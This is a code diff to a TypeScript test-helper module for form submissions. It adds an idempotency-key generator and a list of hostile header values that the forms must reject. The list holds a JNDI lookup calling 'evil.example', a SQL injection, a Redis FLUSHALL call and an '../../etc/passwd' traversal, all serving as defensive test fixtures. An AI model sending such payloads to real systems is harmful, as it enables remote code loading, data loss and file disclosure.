@@ -2,6 +2,7 @@
  * Building blocks of form submissions: a valid contact request or job application for a marker,
  * and the wire request that posts fields and files from the site's own origin.
  */
+import { createHash } from "node:crypto";
 import type { WireRequest } from "./httpClient";
 import { fieldParts, multipartBody, multipartType, type Part } from "./multipart";
 import { SMALL_PDF } from "./sampleFiles";
@@ -67,3 +68,36 @@ export const formPost = (path: string, origin: string, fields: Fields, files: Pa
 export function jsonPost(path: string, origin: string, body: string | Buffer, contentType = "application/json"): WireRequest {
   return { method: "POST", path, headers: { Origin: origin, "Content-Type": contentType }, body: Buffer.isBuffer(body) ? body : Buffer.from(body, "utf8") };
 }
+
+/** A well-formed idempotency key of its own for the input with this marker (a v4 UUID's shape). */
+export function idempotencyKeyFor(marker: string): string {
+  const hex = createHash("sha256").update(marker).digest("hex");
+  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-a${hex.slice(17, 20)}-${hex.slice(20, 32)}`;
+}
+
+/**
+ * Idempotency-Key values the forms must refuse with 400 before reading the body (issue 19): not a
+ * UUID, padded, several, overlong, or text aimed at the key store (Redis patterns, Lua, paths).
+ * Only what an HTTP client can put in a header (no CR, LF or NUL; surrounding spaces are trimmed
+ * by the server, so a padded valid key is a valid key).
+ */
+export const HOSTILE_IDEMPOTENCY_KEYS: readonly (string | string[])[] = [
+  "",
+  " ",
+  "x",
+  "*",
+  "brezo:es:forms:*",
+  "' OR 1=1 --",
+  "${jndi:ldap://evil.example/a}",
+  "redis.call('FLUSHALL')",
+  "../../etc/passwd",
+  "{0f8fad5b-d9cb-469f-a165-70867728950e}",
+  "0f8fad5bd9cb469fa16570867728950e",
+  "0f8fad5b-d9cb-469f-a165-70867728950e,0f8fad5b-d9cb-469f-a165-70867728950f",
+  ["0f8fad5b-d9cb-469f-a165-70867728950e", "0f8fad5b-d9cb-469f-a165-70867728950f"],
+  "0f8fad5b-d9cb-469f-a165-70867728950\u00e9",
+  "k".repeat(8_000),
+];
+
+/** A short label for a header value in a test's name. */
+export const keyLabel = (key: string | string[]) => (Array.isArray(key) ? `${key.length} headers` : JSON.stringify(key.length > 40 ? `${key.slice(0, 20)}…(${key.length})` : key));
